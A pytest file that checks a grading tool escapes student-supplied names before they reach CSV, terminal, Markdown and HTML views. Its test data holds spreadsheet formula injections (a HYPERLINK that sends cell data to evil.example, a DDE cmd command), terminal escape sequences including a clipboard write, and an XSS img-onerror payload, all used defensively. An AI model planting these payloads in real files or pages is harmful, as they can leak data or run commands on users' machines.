"""What a student names reaches instructors' terminals, spreadsheets and documents inert."""
from __future__ import annotations

import csv
import io

import pytest

from grader.grading.viewers import for_csv, for_csv_row, for_html, for_markdown, for_terminal

HOSTILE_IDS = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+2", "-2+3", "@SUM(A1:A9)",
    "\tTAB", "\rCR", "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("cell", HOSTILE_IDS)
def test_a_formula_cell_is_read_as_text(cell):
    escaped = for_csv(cell)
    assert escaped.startswith("'") or escaped.startswith("\\x0d")   # a CR is shown as \x0d
    # and it survives the csv module's quoting as one cell
    buf = io.StringIO()
    csv.writer(buf).writerow(["x", escaped])
    assert next(csv.reader(io.StringIO(buf.getvalue())))[1] == escaped


def test_numbers_and_plain_text_are_unchanged():
    assert for_csv(-1.5) == -1.5 and for_csv(3) == 3 and for_csv(None) is None
    assert for_csv("li.hua") == "li.hua" and for_csv("李华") == "李华"
    assert for_csv_row(["ok", 2, "=1"]) == ["ok", 2, "'=1"]


def test_terminal_control_sequences_are_shown_not_sent():
    attacks = ["\x1b[2J\x1b[H", "\x1b]0;pwned\x07", "\x1b]52;c;ZXZpbA==\x07", "\x9b31m",
               "abc\u202edcba", "\x08\x08ok"]
    for text in attacks:
        shown = for_terminal(text)
        assert not any(ord(c) < 32 and c not in "\n\t" for c in shown), repr(shown)
        assert "\x9b" not in shown and "\u202e" not in shown
    assert for_terminal("a\nb") == "a\nb" and for_terminal("a\nb", keep_newlines=False) == "a\\nb"


def test_markdown_and_html_show_text_literally():
    name = "<img src=x onerror=alert(3)>[click](http://evil)|*x*"
    md = for_markdown(name)
    assert "<" not in md and "](" not in md and "\\|" in md and "\\*" in md
    assert for_html(name).startswith("&lt;img") and '"' not in for_html('a"b')
